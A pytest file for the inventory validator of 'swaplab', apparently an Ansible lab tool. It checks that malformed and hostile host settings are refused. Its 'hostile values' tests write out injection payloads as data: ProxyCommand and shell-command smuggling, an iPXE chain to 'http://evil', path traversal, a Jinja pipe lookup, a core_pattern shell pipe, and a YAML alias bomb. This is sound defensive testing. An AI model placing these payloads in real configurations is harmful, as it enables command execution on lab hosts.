"""Inventory validation reports every problem at once, each naming host, problem and fix."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from swaplab.inventory import InventoryError, load, validate, warnings
from swaplab.lab.machines import Blade, LabState, write_inventory
from swaplab.labshape import LabShape

ROOT = Path(__file__).resolve().parents[2]


def inv(blades: dict[str, dict[str, Any]], nas: dict[str, Any] | None = None) -> dict[str, Any]:
    d: dict[str, Any] = {"_meta": {"hostvars": dict(blades)}, "all": {"children": ["nas", "blades"]}}
    d["blades"] = {"hosts": list(blades)}
    if nas is not None:
        d["nas"] = {"hosts": ["nas"]}
        d["_meta"]["hostvars"]["nas"] = nas
    return d


QMP = {"driver": "qmp", "socket": "/x.qmp"}


def test_good_inventory_has_no_problems() -> None:
    blades = {"b1": {"ansible_host": "10.0.0.11", "swaplab_mac": "52:54:00:00:00:11", "swaplab_power": QMP}}
    assert validate(inv(blades, {"swaplab_lab_address": "10.0.0.1"})) == []


def test_all_problems_at_once() -> None:
    blades = {
        "b1": {"ansible_host": "10.0.0.11", "swaplab_mac": "52:54:00:00:00:11", "swaplab_power": QMP},
        "b2": {"ansible_host": "10.0.0.11", "swaplab_mac": "52:54:00:00:00:11", "swaplab_power": {"driver": "ipmi"}},
        "b3": {"swaplab_power": {"driver": "telnet"}},
        "b4": {"ansible_host": "10.0.0.14", "swaplab_mac": "not-a-mac"},
    }
    problems = validate(inv(blades))
    text = "\n".join(problems)
    assert "no `nas` group" in text
    assert "b2: swaplab_mac 52:54:00:00:00:11 is also b1's" in text
    assert "b2: address 10.0.0.11 is also b1's" in text
    assert "b2: swaplab_power: power driver ipmi lacks host, user, password" in text and "Vault" in text
    assert "b3: no swaplab_mac" in text and "b3: no ansible_host" in text
    assert "b3: swaplab_power driver 'telnet' is unknown" in text
    assert "b4: swaplab_mac 'not-a-mac' is not a MAC address" in text
    assert "b4: no swaplab_power" in text
    assert "kernel" not in text  # the kernel under test is judged on its own (kernel.under_test)
    assert len(problems) == 9


def test_missing_blades_group() -> None:
    d = inv({}, {"swaplab_lab_address": "10.0.0.1"})
    del d["blades"]
    assert validate(d) == ["no `blades` group: add a group `blades` with one host per blade"]


def test_lab_example_inventory_is_valid() -> None:
    data = load(str(ROOT / "inventories" / "lab.example" / "hosts.yml"), str(Path(_bin()) / "ansible-inventory"))
    assert validate(data) == []
    # The proxy-DHCP settings are where the role reads them: on the NAS.
    assert data["_meta"]["hostvars"]["nas01"]["pxe_server__mode"] == "proxy"


def test_generated_virtual_inventory_is_valid(tmp_path: Path) -> None:
    st = LabState(str(tmp_path), 12222, "10.0.0.1", "/k", str(tmp_path / "kh"), shape=LabShape(nas="vm"))
    st.blades = [Blade(f"blade{i}", f"52:54:00:00:00:1{i}", f"10.0.0.1{i}", 256, f"/q{i}", "/c", "/s", "/p")
                 for i in (1, 2)]  # fmt: skip
    out = tmp_path / "hosts.yml"
    write_inventory(st, out)
    data = load(str(out), str(Path(_bin()) / "ansible-inventory"))
    assert validate(data) == []
    assert data["_meta"]["hostvars"]["blade2"]["swaplab_power"] == {"driver": "qmp", "socket": "/q2"}
    assert "ProxyCommand" in data["_meta"]["hostvars"]["blade1"]["ansible_ssh_common_args"]


def test_the_host_nas_inventory_reaches_it_on_its_veth_and_serves_nfs_with_ganesha(tmp_path: Path) -> None:
    from swaplab.lab import hostnas

    st = LabState(str(tmp_path), 22, "10.0.0.1", "/k", str(tmp_path / "kh"), shape=LabShape(nas="host"),
                  nas_host=hostnas.MGMT_NAS)  # fmt: skip
    st.blades = [Blade("blade1", "52:54:00:00:00:11", "10.0.0.11", 192, "/q1", "/c", "/s", "/p")]
    out = tmp_path / "hosts.yml"
    write_inventory(st, out)
    data = load(str(out), str(Path(_bin()) / "ansible-inventory"))
    assert validate(data) == []
    nas = data["_meta"]["hostvars"]["nas"]
    assert (nas["ansible_host"], nas["ansible_port"]) == (hostnas.MGMT_NAS, 22)
    assert nas["nfs_server__implementation"] == "ganesha" and nas["pxe_server__interface"] == hostnas.TAP
    assert f"-p 22 -W %h:%p root@{hostnas.MGMT_NAS}" in data["_meta"]["hostvars"]["blade1"]["ansible_ssh_common_args"]


@pytest.mark.parametrize(
    ("key", "value"),
    [("nfs_server__implementation", "knfsd; reboot"), ("nfs_server__ganesha_root_squash", "No_Root_Squash }"),
     ("nfs_server__ganesha_grace_s", "15; EXPORT {")],
)  # fmt: skip
def test_the_ganesha_settings_are_choices_or_numbers(key: str, value: str) -> None:
    problems = validate(inv({"b1": GOOD}, {"swaplab_lab_address": "10.0.0.1", key: value}))
    assert any(key in p for p in problems), problems


def test_malformed_inventory_is_one_clear_error(tmp_path: Path) -> None:
    bad = tmp_path / "hosts.yml"
    bad.write_text("all:\n  children:\n    nas: [oops\n")
    with pytest.raises(InventoryError, match="cannot be parsed"):
        load(str(bad), str(Path(_bin()) / "ansible-inventory"))


def _bin() -> str:
    import sys

    return str(Path(sys.executable).parent)


# --- hostile values: each reaches a file or a shell if accepted ---------------------------

GOOD = {"ansible_host": "10.0.0.11", "swaplab_mac": "52:54:00:00:00:11", "swaplab_power": QMP}


def _problems(blade: dict[str, Any], name: str = "b1", nas: dict[str, Any] | None = None) -> str:
    return "\n".join(validate(inv({name: blade}, nas or {"swaplab_lab_address": "10.0.0.1"})))


@pytest.mark.parametrize(
    ("override", "needle"),
    [
        ({"ansible_host": "10.0.0.11\n-oProxyCommand=touch /tmp/pwned"}, "ansible_host holds a control character"),
        ({"ansible_host": "10.0.0.11 *"}, "ansible_host '10.0.0.11 *' is not an IP address"),
        ({"ansible_host": "blade1.lab"}, "is not an IP address"),
        ({"swaplab_mac": "52:54:00:00:00:11\n"}, "swaplab_mac holds a control character"),
        ({"swaplab_mac": "52:54:00:00:00:11x"}, "is not a MAC address"),
        ({"swaplab_kernel_cmdline_extra": "quiet\nshell"}, "control character"),
        ({"swaplab_kernel_cmdline_extra": "quiet; chain http://evil"}, "goes into the iPXE script"),
        ({"nfs_swap__export": "/srv/swap/../../etc"}, "no . or .. component"),
        ({"nfs_swap__export": "{{ lookup('pipe', 'id') }}"}, "is a template"),
        ({"nfs_swap__options": "hard,vers=3 -o rw,*"}, "may hold only"),
        ({"swaplab_blade_sysctls": {"kernel.core_pattern": "|/bin/sh -c id"}}, "is not a sysctl name and value"),
        ({"ansible_port": "22 -oX"}, "is not a port number"),
        ({"ansible_user": "root -oProxyCommand=x"}, "is not a user name"),
        ({"swaplab_power": {"driver": "qmp", "socket": "relative.qmp"}}, "is not an absolute path"),
        ({"swaplab_power": {"driver": "qmp", "socket": "{{ x }}"}}, "power setting socket is a template"),
        ({"swaplab_power": {"driver": "redfish", "url": "http://bmc", "user": "u", "password": "{{ p }}"}}, "is http"),
        ({"swaplab_power": {"driver": "redfish", "url": "https://bmc x", "user": "u", "password": "p"}}, "nor a DNS"),
        ({"swaplab_power": {"driver": "ipmi", "host": "-oops", "user": "u", "password": "p"}}, "neither an IP"),
        ({"pxe_server__mode": "proxy"}, "read on the NAS, not on a blade"),
    ],
)
def test_hostile_blade_values_are_refused(override: dict[str, Any], needle: str) -> None:
    assert needle in _problems(GOOD | override)


@pytest.mark.parametrize("name", ["..", "-oProxyCommand=x", "a/b", "a b", "blade\n1", "x" * 64, "ünï"])
def test_host_names_are_dns_labels(name: str) -> None:
    assert f"host {name!r}: a host name is a DNS label" in _problems(GOOD, name)


def test_nas_values_are_checked() -> None:
    text = _problems(GOOD, nas={"swaplab_lab_address": "10.0.0.1 *", "ansible_host": "nas;id"})
    assert "swaplab_lab_address '10.0.0.1 *' is not an IP address" in text
    assert "ansible_host 'nas;id' is neither an IP address nor a DNS name" in text
    assert _problems(GOOD, nas={"swaplab_lab_address": "10.0.0.1", "ansible_host": "nas01.lab.example.org"}) == ""


def test_a_vault_value_is_opaque_and_a_clear_password_warned() -> None:
    vault = {"__ansible_vault": "$ANSIBLE_VAULT;1.1;AES256\n6162\n"}  # ciphertext has newlines
    power = {"driver": "redfish", "url": "https://bmc.lab", "user": "u", "password": vault}
    d = inv({"b1": GOOD | {"swaplab_power": power}}, {"swaplab_lab_address": "10.0.0.1"})
    assert "control character" not in "\n".join(validate(d))
    assert warnings(d) == []
    power["password"] = "hunter2"  # noqa: S105 - the clear-text case itself
    assert warnings(d) == ["b1: swaplab_power's password is in clear text in the inventory: take it from Ansible "
                           "Vault (!vault) or the environment (lookup('ansible.builtin.env', ...))"]  # fmt: skip


def test_a_parse_error_does_not_echo_the_password(tmp_path: Path) -> None:
    bad = tmp_path / "hosts.yml"
    bad.write_text("all:\n  hosts:\n    b1:\n      swaplab_power: {driver: ipmi, password: s3cr3t-pw\n  oops: [\n")
    with pytest.raises(InventoryError) as e:
        load(str(bad), str(Path(_bin()) / "ansible-inventory"))
    assert "cannot be parsed" in str(e.value) and "s3cr3t-pw" not in str(e.value)


def test_a_yaml_alias_bomb_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import swaplab.inventory as inventory

    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
              for i in range(1, 10)]  # fmt: skip
    bomb = tmp_path / "hosts.yml"
    bomb.write_text("all:\n  vars:\n" + "".join(f"    {line}\n" for line in lines) + "  hosts:\n    b1: {}\n")
    assert len(bomb.read_bytes()) < 1200
    monkeypatch.setattr(inventory, "LOAD_TIMEOUT_S", 20)
    with pytest.raises(InventoryError) as e:
        load(str(bomb), str(Path(_bin()) / "ansible-inventory"))
    assert (
        "did not finish within 20 s" in str(e.value)
        or "bytes once parsed" in str(e.value)
        or ("cannot be parsed" in str(e.value))
    )
